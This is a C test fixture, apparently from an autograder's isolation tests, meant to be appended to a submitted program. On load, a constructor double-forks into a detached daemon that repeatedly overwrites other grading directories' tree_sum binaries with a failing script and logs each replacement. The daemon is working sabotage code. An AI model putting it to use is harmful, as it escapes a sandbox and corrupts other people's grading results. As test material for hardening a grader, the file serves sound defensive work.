/* daemon.c - appended to a submitted tree_sum.c by test_kits.sh (case daemon): a process
 * that outlives its test (double fork, a session of its own) and, for half a minute,
 * replaces the programs of every other grading work tree it can write to (the next
 * submission of a batch). It writes its pid to @DROP@/daemon.pid. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void daemon_log(const char *what, const char *path)
{
    FILE *log = fopen("@DROP@/daemon.log", "a");
    if (log) {
        fprintf(log, "%s %s\n", what, path);
        fclose(log);
    }
}

static void daemon_sabotage(const char *mine)
{
    DIR *d = opendir("/tmp");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        char path[600], tmp[700];
        if (strncmp(e->d_name, "grade-", 6) || strstr(mine, e->d_name))
            continue;
        snprintf(path, sizeof path, "/tmp/%s/build/asg_fixture/tree_sum", e->d_name);
        snprintf(tmp, sizeof tmp, "%s.new", path);
        FILE *f = fopen(tmp, "w");
        if (!f)
            continue;
        fputs("#!/bin/sh\nexit 1\n", f);
        fclose(f);
        chmod(tmp, 0755);
        if (rename(tmp, path) == 0)
            daemon_log("replaced", path);
    }
    if (d)
        closedir(d);
}

__attribute__((constructor)) static void daemon_start(void)
{
    int lock = open("@DROP@/daemon.lock", O_CREAT | O_EXCL | O_WRONLY, 0644);
    char cwd[512];
    int fds[2];
    if (lock < 0 || !getcwd(cwd, sizeof cwd) || pipe(fds) != 0)
        return;
    close(lock);
    if (fork() != 0) { /* the test goes on once the daemon is out of its session */
        char c;
        close(fds[1]);
        if (read(fds[0], &c, 1) < 0) {
        }
        close(fds[0]);
        return;
    }
    setsid();
    if (fork() != 0)
        _exit(0);
    FILE *f = fopen("@DROP@/daemon.pid", "w");
    if (f) {
        fprintf(f, "%d\n", (int)getpid());
        fclose(f);
    }
    if (write(fds[1], "x", 1) < 0) {
    }
    close(fds[0]);
    close(fds[1]);
    for (int i = 0; i < 3; i++)
        close(i);
    for (int t = 0; t < 300; t++) {
        daemon_sabotage(cwd);
        usleep(100000);
    }
    _exit(0);
}
